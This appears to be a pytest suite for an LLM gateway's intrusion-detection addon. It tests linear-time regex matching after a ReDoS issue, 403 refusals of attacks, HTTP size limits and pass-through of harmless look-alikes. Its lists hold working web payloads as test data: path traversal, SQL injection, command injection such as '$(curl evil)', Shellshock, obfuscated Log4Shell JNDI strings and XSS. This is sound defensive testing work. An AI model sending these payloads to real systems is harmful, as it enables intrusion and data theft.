"""Class 3: intrusion patterns run in linear time, on bounded input, without false positives.

The issue: one unauthenticated header of `() {` and 4,000 spaces froze the event loop
for 37 s (three adjacent `\\s*` in a backtracking regex); `Referer` URLs with "union
select", two backticks or `$(` in a header were refused.

- Linearity, in process: every rule, every input kind's combined pattern and the whole
  `inspect()` get pathological inputs built from their own pieces
  (`bench.intrusion.pathological_inputs`) at 1/64, 1/8 of the largest size the HTTP
  layer admits and at that size (an 8 KiB line; for `inspect()`, a whole 32 KiB head);
  from each size to the next the CPU work may grow about 8 times, never the 64 times
  of a quadratic match (CPU time of this thread, best of several rounds, no wall clock).
- The real gateway: the issue's header and other pathological ones at the largest
  sizes admitted are answered while another client on another connection is served.
- Attacks in the path, query and the headers they work through are refused (403) and
  never reach the engine; look-alikes in headers reach it byte for byte.
- Sizes are bounded once, by the HTTP layer (`server.limits`): one byte more than it
  admits is refused there (414/431) before any addon runs; a request at the largest
  sizes admitted is inspected in full (a payload at the very end is still caught).
"""

from __future__ import annotations

import itertools
import threading
import time
from collections.abc import Callable, Iterator

import pytest
from mitmproxy.net.http import http1

from bench.intrusion import (
    LIMITS,
    LONGEST_VALUE,
    MAX_FILL,
    PIECES,
    cpu_ns,
    limit_request,
    pathological_inputs,
)
from flm_gateway.addons.intrusion import inspect
from flm_gateway.proxy.mitm_http1 import check_head, limits_of
from flm_gateway.security.intrusion_rules import KINDS, RULES, Rule, RuleSet
from flm_gateway.security.linear_re import LinearPattern
from tests.adversarial.harness import (
    Answer,
    assert_openai_error,
    exchange,
    gateway_before,
    port_of,
    request,
    sources,
)
from tests.support.gateway_process import GatewayProcess
from tests.support.recording_engine import RecordingEngine

CONFIG = """\
server: {state_dir: "{state_dir}"}
listeners:
  - {name: main, bind: "127.0.0.1:{port}", auth: none}
engines:
  - {name: rec, kind: ollama, url: "ENGINE_URL"}
routes:
  - {model: tiny, engine: rec}
"""
CHAT = {"model": "tiny", "messages": [{"role": "user", "content": "hi"}]}

SIZES = (LONGEST_VALUE // 64, LONGEST_VALUE // 8, LONGEST_VALUE)
"""Each 8 times the one before, up to the longest line the HTTP layer admits; a blow-up
shows at the first step, before a super-linear match on 8 KiB could stall the test."""
FILLS = (MAX_FILL // 64, MAX_FILL // 8, MAX_FILL)
"""The same for `limit_request`, up to the largest head the HTTP layer admits."""
LINEAR_BOUND = 3 * 8
"""Work may grow 3 times faster than the input (24x for 8x the size); quadratic is 64x."""


# ---- linear time, in process -------------------------------------------------------


def growth(search: Callable[[bytes], object], small: bytes, large: bytes, calls: int) -> float:
    """How many times more CPU `search` spends on `large` than on `small` (least of 3 tries)."""
    best = float("inf")
    for _ in range(3):
        ratio = cpu_ns(search, large, calls, 5) / max(cpu_ns(search, small, calls, 5), 1.0)
        best = min(best, ratio)
        if best <= LINEAR_BOUND:
            break
    return best


def steepest(search: Callable[[bytes], object], inputs: list[bytes], calls: int) -> float:
    """The largest growth of the work from one input to the next (8 times longer) one."""
    steepest = 0.0
    for small, large in itertools.pairwise(inputs):
        steepest = max(steepest, growth(search, small, large, calls))
        if steepest > LINEAR_BOUND:
            break
    return steepest


def super_linear(search: Callable[[bytes], object], rules: list[Rule], calls: int = 3) -> dict:
    """{input name: growth} for every pathological input of `rules` that grew too fast."""
    by_size = [
        {k: v for rule in rules for k, v in pathological_inputs(rule, size).items()}
        for size in SIZES
    ]
    found = {}
    for name in by_size[-1]:
        inputs = [inputs_of_size[name] for inputs_of_size in by_size]
        assert [len(data) for data in inputs] == list(SIZES)
        ratio = steepest(search, inputs, calls)
        if ratio > LINEAR_BOUND:
            found[name] = round(ratio, 1)
    return found


@pytest.mark.parametrize("rule", RULES, ids=[rule.id for rule in RULES])
def test_every_rule_is_linear_in_its_input(rule: Rule) -> None:
    assert super_linear(LinearPattern(rule.pattern).search, [rule]) == {}


@pytest.mark.parametrize("kind", KINDS)
def test_every_combined_pass_is_linear_in_its_input(kind: str) -> None:
    rules = RuleSet(RULES)
    assert super_linear(lambda data: rules.scan(kind, data), list(RULES)) == {}


def admitted(request: bytes) -> bool:
    """Whether the HTTP layer admits the request head `request` (server.limits' defaults)."""
    head = request[: request.index(b"\r\n\r\n") + 4]
    return len(head) <= LIMITS.max_head_size and check_head(head, limits_of(LIMITS)) is None


def at_a_limit(request: bytes) -> bool:
    """Whether the HTTP layer admits `request`, with its request line, a header line, its
    whole head or its number of header lines exactly at a limit."""
    head = request[: request.index(b"\r\n\r\n") + 4]
    lines = head.split(b"\r\n")  # the request line, the header lines, "", ""
    return admitted(request) and (
        len(head) == LIMITS.max_head_size
        or len(lines[0]) == LIMITS.max_url_length
        or max(map(len, lines[1:])) == LIMITS.max_header_line
        or len(lines) - 3 == LIMITS.max_headers
    )


def test_the_largest_fill_is_the_largest_request_admitted() -> None:
    largest = http1.assemble_request_head(limit_request(b"a" * MAX_FILL))
    assert admitted(largest) and len(largest) == LIMITS.max_head_size
    assert not admitted(http1.assemble_request_head(limit_request(b"a" * (MAX_FILL + 1))))


def test_inspecting_a_whole_request_is_linear_in_its_size() -> None:
    # The target and three header values of the same fill: at MAX_FILL the request line
    # and the head are as long as the HTTP layer admits; the hits found are listed rule
    # by rule, in the time measured.
    rules = RuleSet(RULES)
    generic = {f"run {piece!r}" for piece in PIECES} | {f"{p!r} then 'a'" for p in PIECES}
    by_size = [
        {k: limit_request(v) for k, v in pathological_inputs(RULES[0], size).items()}
        for size in FILLS
    ]
    slow = {}
    for name in sorted(generic):
        keyed = {str(n).encode(): at_size[name] for n, at_size in enumerate(by_size)}
        ratio = steepest(lambda key, keyed=keyed: inspect(keyed[key], rules), list(keyed), 1)
        if ratio > LINEAR_BOUND:
            slow[name] = round(ratio, 1)
    assert slow == {}


# ---- the real gateway ----------------------------------------------------------------


@pytest.fixture(scope="module")
def engine() -> Iterator[RecordingEngine]:
    with RecordingEngine(kind="ollama", models=("tiny",)) as running:
        yield running


@pytest.fixture(scope="module")
def gateway(
    engine: RecordingEngine, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[GatewayProcess]:
    with gateway_before(engine, tmp_path_factory.mktemp("intrusion"), CONFIG) as running:
        yield running


SOURCES = sources(30)


def send(gateway: GatewayProcess, data: bytes, timeout: float = 30.0) -> Answer:
    return exchange(port_of(gateway), data, source=next(SOURCES), timeout=timeout)


def chat(headers: dict[str, str] | list[tuple[str, str]] | None = None, target: str = "") -> bytes:
    return request("POST", target or "/v1/chat/completions", headers=headers, json_body=CHAT)


LONGEST_TARGET = LIMITS.max_url_length - len("POST  HTTP/1.1")
"""Characters of the longest target of a POST the HTTP layer admits (8 KiB request line)."""
QUERY = "/v1/chat/completions?q="


def longest(name: str) -> int:
    """Characters of the longest value of header `name` the HTTP layer admits."""
    return LIMITS.max_header_line - len(name) - len(": ")


def padded(prefix: str, run: str, size: int, suffix: str = "") -> str:
    """`prefix`, `run` repeated, then `suffix`: `size` characters, or a few less when
    `run` does not divide what is left."""
    return prefix + run * ((size - len(prefix) - len(suffix)) // len(run)) + suffix


def head_filled(headers: list[tuple[str, str]], name: str, payload: str, extra: int = 0) -> bytes:
    """A chat request with `headers`, then header `name`: padding and `payload` at its
    end, so long that the head is exactly as large as the HTTP layer admits (plus
    `extra` bytes)."""
    head = chat([*headers, (name, "")])
    room = LIMITS.max_head_size - (head.index(b"\r\n\r\n") + 4) + extra
    return chat([*headers, (name, "a" * (room - len(payload)) + payload)])


def test_the_issue_header_and_other_pathological_ones_do_not_freeze_the_loop(
    gateway: GatewayProcess, engine: RecordingEngine
) -> None:
    attacks = [  # (request, its answer): refused where a rule matches, else forwarded
        # The issue's header (a last byte so HTTP's trailing-space trim keeps the spaces).
        (chat({"x-api-version": "() {" + " " * 4000 + "x"}), 403),
        # The longest lines the HTTP layer admits (server.limits: 8 KiB each).
        (chat({"x-api-version": padded("() {", " ", longest("x-api-version"), "x")}), 403),
        (chat({"referer": padded("", "${", longest("referer"))}), 403),
        (chat({"x-note": padded("'", " ", longest("x-note"), "x")}), 200),
        (chat({"user-agent": padded("", "union ", longest("user-agent"))}), 200),
        (chat(target=padded(QUERY, "union%20", LONGEST_TARGET)), 200),
        (chat(target=padded(QUERY + "'", "+", LONGEST_TARGET)), 200),
        # Malformed escapes: canonical_target refuses the query (class 1).
        (chat(target=padded(QUERY, "%", LONGEST_TARGET)), 400),
        (chat(target=padded(QUERY, "$(", LONGEST_TARGET, ")")), 403),
        # The whole head as large as admitted: three such lines and the rest.
        (
            head_filled(
                [(f"x-pad-{n}", padded("() {", " ", longest("x-pad-0"), "x")) for n in range(3)],
                "x-last",
                "x",
            ),
            403,
        ),
    ]
    # A baseline: the same number of ordinary requests, one after another.
    started = time.monotonic()
    for _ in attacks:
        assert send(gateway, chat({"x-note": "ordinary"})).status == 200
    ordinary = time.monotonic() - started

    answers: list[Answer] = []

    def attack() -> None:
        for data, _ in attacks:
            answers.append(send(gateway, data))

    attacker = threading.Thread(target=attack)
    started = time.monotonic()
    attacker.start()
    # Another client, on its own connections, while the attacks go in.
    served = [send(gateway, chat({"x-note": "meanwhile"}), timeout=60) for _ in range(4)]
    attacker.join(120)
    pathological = time.monotonic() - started
    assert not attacker.is_alive()
    assert [answer.status for answer in served] == [200] * 4
    assert len(answers) == len(attacks)
    assert [answer.status for answer in answers] == [status for _, status in attacks]
    # Generous against a loaded 2-core machine; the issue's header alone took 37 s.
    assert pathological < max(20 * ordinary, 10.0), (pathological, ordinary)


ATTACKS: list[tuple[str, dict[str, str]]] = [
    # Path and query (decoded as engines decode them, and more)
    ("/v1/chat/completions/..%2f..%2fapi%2fpull", {}),
    ("/v1/chat/completions/%2e%2e/%2e%2e/api/delete", {}),
    ("/v1/chat/completions/%252e%252e/x", {}),
    ("/v1/chat/completions?f=....%2f%2f....%2f%2fetc%2fpasswd", {}),
    ("/v1/chat/completions?id=1%27%20OR%20%271%27%3D%271", {}),
    ("/v1/chat/completions?id=1%27or%271%27%3D%271", {}),
    ("/v1/chat/completions?id=1/**/UNION/**/ALL/**/SELECT/**/1,2", {}),
    ("/v1/chat/completions?id=-1%0bunion%0bselect%0b1", {}),
    ("/v1/chat/completions?id=1+union/*!50000select*/+1", {}),
    ("/v1/chat/completions?id=1;DROP%20TABLE%20users--", {}),
    ("/v1/chat/completions?q=1%20AND%20SLEEP(5)", {}),
    ("/v1/chat/completions?q=1%20and%20extractvalue(1,concat(0x7e,@@version))", {}),
    ("/v1/chat/completions?cmd=%3Bcat%20%2Fetc%2Fpasswd", {}),
    ("/v1/chat/completions?x=a%0Aid", {}),
    ("/v1/chat/completions?x=%24(curl%20evil)", {}),
    ("/v1/chat/completions?x=%60id%60", {}),
    ("/v1/chat/completions?x=a%7C%7Cbash", {}),
    ("/v1/chat/completions?x=%24%7Bjndi%3Aldap%3A%2F%2Fe%2Fa%7D", {}),
    ("/v1/chat/completions?x=%2524%257Bjndi:ldap://e/a%257D", {}),
    ("/v1/chat/completions?x=()%20%7B%20%3A%3B%20%7D%3B%20id", {}),
    ("/v1/chat/completions?q=%3Csvg%2Fonload%3Dalert(1)%3E", {}),
    ("/v1/chat/completions%00.json", {}),
    ("/v1/chat/completions#/../../etc/passwd", {}),
    ("/v1/chat/completions?q=1#';drop%20table%20x", {}),
    # Headers: the attacks that work through a header
    ("/v1/chat/completions", {"User-Agent": "() { :; }; /bin/bash -c id"}),
    ("/v1/chat/completions", {"X-Api-Version": "() { :;}; echo vulnerable"}),
    ("/v1/chat/completions", {"Referer": "() { _; } >_[$($())] { id; }"}),
    ("/v1/chat/completions", {"Referer": "${jndi:ldap://evil/a}"}),
    ("/v1/chat/completions", {"X-Forwarded-For": "${${lower:j}ndi:${lower:l}dap://e/a}"}),
    ("/v1/chat/completions", {"Accept-Language": "${${::-j}${::-n}${::-d}${::-i}:rmi://e}"}),
    ("/v1/chat/completions", {"X-Request-Id": "${j${k8s:k5:-ND}i:ldap://e}"}),
    ("/v1/chat/completions", {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
    ("/v1/chat/completions", {"User-Agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine)"}),
    ("/v1/chat/completions", {"User-Agent": "Fuzz Faster U Fool v2.1.0-dev"}),
]


@pytest.mark.parametrize(("target", "headers"), ATTACKS)
def test_attacks_are_refused_and_never_reach_the_engine(
    gateway: GatewayProcess, engine: RecordingEngine, target: str, headers: dict[str, str]
) -> None:
    before = len(engine.calls())
    answer = send(gateway, chat(headers, target))
    assert_openai_error(answer, 403, code="request_rejected")
    assert len(engine.calls()) == before


def test_a_second_user_agent_is_inspected_too(
    gateway: GatewayProcess, engine: RecordingEngine
) -> None:
    before = len(engine.calls())
    headers = [("User-Agent", "curl/8.5.0"), ("User-Agent", "nuclei/3.1")]
    assert_openai_error(send(gateway, chat(headers)), 403, code="request_rejected")
    assert len(engine.calls()) == before


LOOK_ALIKES: list[tuple[str, str]] = [
    ("Referer", "https://example.com/search?q=union+select+tutorial"),
    ("Referer", "https://example.com/search?q=%27+or+1%3D1--"),
    ("Referer", "https://docs.example.com/linux/etc/passwd-explained"),
    ("X-Note", "see `ls -la` and `cat` in the shell"),
    ("X-Note", "$(document).ready(init)"),
    ("X-Scan-Report", "nmap 7.94 found port 443"),
    ("X-Code", "function() { return 1; }"),
    ("X-Title", "Jim's notes; drop by the table"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("User-Agent", "python-httpx/0.27.0"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0"),
    ("Baggage", padded("userId=alice,serverNode=DF%2028,", "k=v,", longest("Baggage"))),
]


@pytest.mark.parametrize(("name", "value"), LOOK_ALIKES)
def test_look_alikes_in_headers_reach_the_engine_intact(
    gateway: GatewayProcess, engine: RecordingEngine, name: str, value: str
) -> None:
    before = len(engine.calls())
    answer = send(gateway, chat({name: value}))
    assert answer.status == 200, answer.body[:300]
    (seen,) = engine.calls()[before:]
    assert seen.header_values(name)[-1] == value


def test_legitimate_queries_and_model_paths_pass(
    gateway: GatewayProcess, engine: RecordingEngine
) -> None:
    before = len(engine.calls())
    for target in (
        "/v1/chat/completions?api-version=2024-02-01",
        "/v1/chat/completions?id=5&ls=1&cat=2",
    ):
        assert send(gateway, chat(target=target)).status == 200
    assert len(engine.calls()) == before + 2


MAX_LINES = [(f"X-Pad-{n}", "a" * longest("X-Pad-0")) for n in range(3)]
"""Three header lines as long as admitted: with the rest of a chat request, about 25 KiB."""
MANY_LINES = [(f"X-{n}", "1") for n in range(LIMITS.max_headers - 5)]
"""With the 4 header lines of `chat` and one more: as many as the HTTP layer admits."""


@pytest.mark.parametrize(
    ("data", "status", "code"),
    [
        # One byte more than admitted, a payload in the part past the limit.
        (chat(target=padded(QUERY, "a", LONGEST_TARGET + 1)), 414, "uri_too_long"),
        (chat(target=padded(QUERY, "a", LONGEST_TARGET) + "$(id)"), 414, "uri_too_long"),
        (chat({"X-Pad": "a" * (longest("X-Pad") + 1)}), 431, "headers_too_large"),
        (chat({"X-Pad": "a" * longest("X-Pad") + "${jndi:ldap://e}"}), 431, "headers_too_large"),
        (
            chat({"Referer": "a" * (longest("Referer") - 1) + "() { :; };"}),
            431,
            "headers_too_large",
        ),
        (head_filled(MAX_LINES, "X-Last", "${jndi:ldap://e}", extra=1), 431, "headers_too_large"),
        (chat([*MANY_LINES, ("X-Last", "1"), ("X-More", "1")]), 431, "headers_too_large"),
    ],
)
def test_what_the_http_layer_does_not_admit_is_refused_before_any_addon(
    gateway: GatewayProcess, engine: RecordingEngine, data: bytes, status: int, code: str
) -> None:
    before = len(engine.calls())
    assert not admitted(data)
    # The HTTP layer's codes (mitm_errors), not intrusion's request_rejected.
    assert_openai_error(send(gateway, data), status, code=code)
    assert len(engine.calls()) == before


@pytest.mark.parametrize(
    "data",
    [
        # A payload at the very end of the largest target, header line or head admitted,
        # or in the last of as many header lines as admitted.
        pytest.param(chat(target=padded(QUERY, "a", LONGEST_TARGET, "$(id)")), id="target"),
        pytest.param(
            chat(target=padded(QUERY, "a", LONGEST_TARGET, "%24%7Bjndi:ldap://e%7D")),
            id="target-encoded",
        ),
        pytest.param(
            chat({"X-Pad": padded("", "a", longest("X-Pad"), "${jndi:ldap://e}")}), id="header"
        ),
        pytest.param(
            chat({"User-Agent": padded("Mozilla/5.0 ", "a", longest("User-Agent"), " sqlmap/1")}),
            id="user-agent",
        ),
        pytest.param(head_filled(MAX_LINES, "X-Last", "${jndi:ldap://e}"), id="head"),
        pytest.param(chat([*MANY_LINES, ("X-Last", "${jndi:x}")]), id="header-lines"),
    ],
)
def test_a_request_at_the_largest_sizes_admitted_is_inspected_in_full(
    gateway: GatewayProcess, engine: RecordingEngine, data: bytes
) -> None:
    before = len(engine.calls())
    assert at_a_limit(data)
    assert_openai_error(send(gateway, data), 403, code="request_rejected")
    assert len(engine.calls()) == before


def test_credentials_are_not_inspected(gateway: GatewayProcess, engine: RecordingEngine) -> None:
    before = len(engine.calls())
    headers = {
        "Cookie": padded("s=() { :; }; ${jndi:ldap://e};", "a", longest("Cookie")),
        "X-Api-Key": "() { :; }; ' or 1=1 --",
    }
    assert send(gateway, chat(headers)).status == 200
    assert len(engine.calls()) == before + 1
